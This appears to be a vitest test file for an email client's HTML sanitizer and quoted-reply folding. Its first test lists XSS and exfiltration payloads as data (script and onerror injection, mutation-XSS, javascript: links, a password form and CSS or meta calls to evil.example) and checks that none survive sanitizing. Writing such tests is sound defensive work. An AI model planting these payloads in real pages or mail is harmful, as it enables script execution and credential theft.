import { expect, test } from 'vitest'

import { quotedFrom } from './quoted-text.ts'
import { safeHtml } from './safe-html.ts'

const inline = { 'logo@mail': '/v1/files/logo' }
const shown = (html: string, remoteImages = false) => safeHtml(html, { remoteImages, inline })

test.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<a href="javascript:alert(1)">a</a><a href=" java\tscript:alert(1)">b</a><a href="data:text/html,<script>">c</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example"><link rel=stylesheet href=//evil.example>',
  '<style>@import "https://evil.example"; body{background:url(https://evil.example)}</style>',
  '<p style="background:url(https://evil.example/x);position:fixed;top:0;behavior:url(x)">Hello</p>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x"><img srcset="https://evil.example/x 1x" alt="x">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<title><img src=x onerror=alert(1)></title><textarea><img src=x onerror=alert(1)></textarea>',
])('nothing is left of %s that runs, posts, or is fetched', (html) => {
  const result = shown(`<body onload=alert(1)>${html}</body>`, true).html.replaceAll(/&lt;.*?&gt;/gs, '')
  expect(result).not.toMatch(
    /script|onerror|onload|srcdoc|srcset|url\(|evil|<(?:form|input|style|meta|base|link|svg|math|iframe|object|embed)/i,
  )
})

test('links open elsewhere and tell nobody where they were, layout stays', () => {
  expect(
    shown(
      '<table width="600"><tr><td style="color:#333;padding:4px 8px">Hi <a href="https://shop.example">shop</a></td></tr></table>',
    ).html,
  ).toBe(
    '<table width="600"><tr><td style="color:#333;padding:4px 8px">Hi <a href="https://shop.example" target="_blank" rel="noopener noreferrer nofollow">shop</a></td></tr></table>',
  )
})

test('pictures of the mail are shown, those from elsewhere are counted and left out until they are asked for', () => {
  const html =
    '<img src="cid:logo@mail"><img src="cid:unknown" alt="gone"><img src="https://a.example/x.png" alt="Tent"><img src="https://a.example/pixel" width="1">'
  expect(shown(html)).toEqual({ html: '<img src="/v1/files/logo"><img alt="gone"><img alt="Tent">', remoteImages: 2 })
  expect(shown(html, true).html).toContain('src="https://a.example/x.png"')
})

test.each([
  ['<p>Thanks</p><div class="gmail_quote">On Monday we wrote</div>', 'Thanks', 'On Monday we wrote'],
  ['<p>Thanks</p><blockquote type="cite">Earlier</blockquote><p>Mia</p>', 'Mia', 'Earlier'],
  [
    '<p>Thanks</p><div id="appendonsend"></div><hr><div id="divRplyFwdMsg">From: us</div><div>Earlier</div>',
    'Thanks',
    'Earlier',
  ],
])('what %s only repeats is folded, and what it says is not', (html, said, repeated) => {
  const [, inside = ''] = /<details>(.*)<\/details>/s.exec(shown(html).html) ?? []
  expect(inside).toContain(repeated)
  expect(inside).not.toContain(said)
  expect(shown(html).html).toContain(said)
})

test('a mail that has nothing but what it repeats is shown whole', () => {
  expect(shown('<div class="gmail_quote">Forwarded</div>').html).not.toContain('<details>')
  expect(quotedFrom('> All of it\n> is quoted')).toBeUndefined()
})

test('depth without end is cut, not followed', () => {
  expect(shown(`${'<div>'.repeat(50_000)}deep`).html.length).toBeLessThan(5_000)
})

test.each([
  ['Thanks!\n\nOn Mon, Mar 2, 2026 at 10:00 AM Support <s@shop.example> wrote:\n> Here.\n', 'Thanks!'],
  ['Danke!\n\nAm 02.03.2026 um 10:00 schrieb Support:\n> Hier\n', 'Danke!'],
  ['Yes\n\n-----Original Message-----\nFrom: a\nSent: b\n\nEarlier', 'Yes'],
])('the text %j says %j, and repeats the rest', (text, said) => {
  expect(text.slice(0, quotedFrom(text))).toBe(said)
})

test.each(['> What?\nYes.\n', 'Hello\n\n-- \nMia', 'Just a text'])('nothing of %j is folded', (text) => {
  expect(quotedFrom(text)).toBeUndefined()
})
